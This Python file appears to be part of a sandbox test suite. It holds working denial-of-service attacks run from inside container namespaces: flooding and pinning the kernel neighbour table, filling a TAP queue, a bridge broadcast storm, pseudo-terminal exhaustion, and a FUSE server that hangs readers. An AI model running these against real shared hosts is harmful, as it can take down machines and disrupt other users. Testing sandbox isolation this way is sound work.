"""Attacks of a sandbox with containers on the machine: run in the sandbox, in namespaces that it has created."""

from __future__ import annotations

import ctypes
import fcntl
import os
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path

NEWLINK, NEWADDR, NEWNEIGH = 16, 20, 28
CREATE = 0x600
PERMANENT, REACHABLE = 0x80, 0x02


def pack(kind: int, data: bytes) -> bytes:
    return struct.pack("=HH", 4 + len(data), kind) + data + b"\0" * (-len(data) % 4)


class Network:
    """The network namespace of this process."""

    def __init__(self) -> None:
        self.socket = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
        self.socket.bind((0, 0))

    def request(self, kind: int, flags: int, payload: bytes) -> None:
        self.socket.send(struct.pack("=IHHII", 16 + len(payload), kind, flags | 5, 1, 0) + payload)
        error = struct.unpack_from("=i", self.socket.recv(65536), 16)[0]
        if error:
            raise OSError(-error, os.strerror(-error))

    def create(self, name: str, kind: str, data: bytes = b"") -> None:
        info = pack(1, kind.encode()) + (pack(2, data) if data else b"")
        self.request(NEWLINK, CREATE, self._link() + pack(3, name.encode() + b"\0") + pack(18, info))

    def create_pair(self, name: str, other: str) -> None:
        self.create(name, "veth", pack(1, self._link() + pack(3, other.encode() + b"\0")))
        self.bring_up(name)
        self.bring_up(other)

    def _link(self, index: int = 0, flags: int = 0) -> bytes:
        return struct.pack("=BxHiII", 0, 0, index, flags, flags)

    def change(self, name: str, attribute: int, value: int) -> None:
        self.request(NEWLINK, 0, self._link(socket.if_nametoindex(name)) + pack(attribute, struct.pack("=I", value)))

    def bring_up(self, name: str) -> None:
        self.request(NEWLINK, 0, self._link(socket.if_nametoindex(name), 1))

    def add_address(self, name: str) -> None:
        address = socket.inet_aton("10.0.0.1")
        header = struct.pack("=BBBBi", socket.AF_INET, 8, 0, 0, socket.if_nametoindex(name))
        self.request(NEWADDR, CREATE, header + pack(1, address) + pack(2, address))

    def add_neighbours(self, name: str, count: int, state: int, last_byte: int = 1) -> None:
        """Add them without waiting for acknowledgements."""
        header = struct.pack("=BxHiHBB", socket.AF_INET, 0, socket.if_nametoindex(name), state, 0, 0)
        batch = b""
        for number in range(count):
            entry = (
                header + pack(1, struct.pack("!I", 0x0A000100 + number)) + pack(2, b"\2\0\0\0\0" + bytes([last_byte]))
            )
            batch += struct.pack("=IHHII", 16 + len(entry), NEWNEIGH, 0x501, 1, 0) + entry
            if len(batch) > 16_000 or number == count - 1:
                self.socket.send(batch)
                batch = b""


def fill_neighbour_table(seconds: str) -> None:
    network = Network()
    network.create_pair("a", "b")
    network.add_address("a")
    print("started", flush=True)
    end, number = time.monotonic() + float(seconds), 0
    while time.monotonic() < end:
        network.add_neighbours("a", 1500, REACHABLE, number % 2)
        number += 1
        time.sleep(0.05)


def hold_neighbours(count: str) -> None:
    network = Network()
    network.create_pair("a", "b")
    network.add_address("a")
    network.add_neighbours("a", int(count), PERMANENT)
    time.sleep(60)


def fill_queue(length: str, count: str) -> None:
    device = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(device, 0x4004_54CA, struct.pack("16sH14x", b"tap0", 0x1002))  # TUNSETIFF: IFF_TAP, IFF_NO_PI
    network = Network()
    network.change("tap0", 13, int(length))
    network.change("tap0", 4, 65_500)
    network.bring_up("tap0")
    network.add_address("tap0")
    network.add_neighbours("tap0", 256, PERMANENT)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        for _ in range(int(count)):
            sender.sendto(bytes(60_000), ("10.0.1.2", 9))
    time.sleep(60)


def start_storm() -> None:
    network = Network()
    network.create("left", "bridge")
    network.create("right", "bridge")
    for number in range(2):
        network.create_pair(f"a{number}", f"b{number}")
        network.change(f"a{number}", 10, socket.if_nametoindex("left"))
        network.change(f"b{number}", 10, socket.if_nametoindex("right"))
    network.bring_up("right")
    network.bring_up("left")
    network.add_address("left")
    time.sleep(0.5)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        for cpu in range(os.cpu_count() or 1):
            os.sched_setaffinity(0, {cpu})
            sender.sendto(b"x", ("10.255.255.255", 9))
    print("started", flush=True)
    time.sleep(60)


def open_terminals(count: str) -> None:
    Path("/tmp/terminals").mkdir(exist_ok=True)
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b"devpts", b"/tmp/terminals", b"devpts", 0, b"newinstance,ptmxmode=0666,max=1048576") < 0:
        raise OSError(ctypes.get_errno(), "mount devpts")
    descriptors = []
    try:
        while len(descriptors) < int(count):
            descriptors.append(os.open("/tmp/terminals/ptmx", os.O_RDWR | os.O_NOCTTY))
    except OSError as error:
        print(error)
    print("started", len(descriptors), flush=True)
    time.sleep(60)


def wait_for_file_server() -> None:
    """Serve a file system that never answers a read, and leave its descriptor to the processes that wait for it."""
    libc = ctypes.CDLL(None, use_errno=True)
    device = os.open("/dev/fuse", os.O_RDWR)
    Path("/tmp/files").mkdir(exist_ok=True)
    options = f"fd={device},rootmode=40000,user_id=0,group_id=0,allow_other".encode()
    if libc.mount(b"x", b"/tmp/files", b"fuse", 0, options) < 0:
        raise OSError(ctypes.get_errno(), "mount fuse")

    def attributes(inode: int) -> bytes:
        mode, size = (0o40777, 0) if inode == 1 else (0o100666, 1 << 20)
        return struct.pack("<6Q10I", inode, size, 8, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)

    def serve() -> None:
        while True:
            request = os.read(device, 1 << 20)
            _, operation, unique, inode, *_ = struct.unpack_from("<IIQQIIII", request)
            answers = {
                26: struct.pack("<IIIIHHIIHHI7I", 7, 31, 65536, 0x10021, 12, 9, 65536, 1, 0, 0, 0, *[0] * 7),  # INIT
                3: struct.pack("<QII", 100, 0, 0) + attributes(inode),  # GETATTR
                1: struct.pack("<QQQQII", 2, 1, 100, 100, 0, 0) + attributes(2),  # LOOKUP
                14: struct.pack("<QII", 7, 0, 0),  # OPEN
            }
            if operation == 15:  # READ
                print("started", flush=True)
                continue
            answer = answers.get(operation)
            error = 0 if answer is not None else -38
            body = answer or b""
            os.write(device, struct.pack("<IiQ", 16 + len(body), error, unique) + body)

    threading.Thread(target=serve, daemon=True).start()
    for _ in range(4):
        if os.fork() == 0:
            os.pread(os.open("/tmp/files/x", os.O_RDONLY), 4096, 0)
            os._exit(0)
    time.sleep(60)


ATTACKS: dict[str, Callable[..., None]] = {
    attack.__name__: attack
    for attack in (
        fill_neighbour_table,
        hold_neighbours,
        fill_queue,
        start_storm,
        open_terminals,
        wait_for_file_server,
    )
}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](*sys.argv[2:])
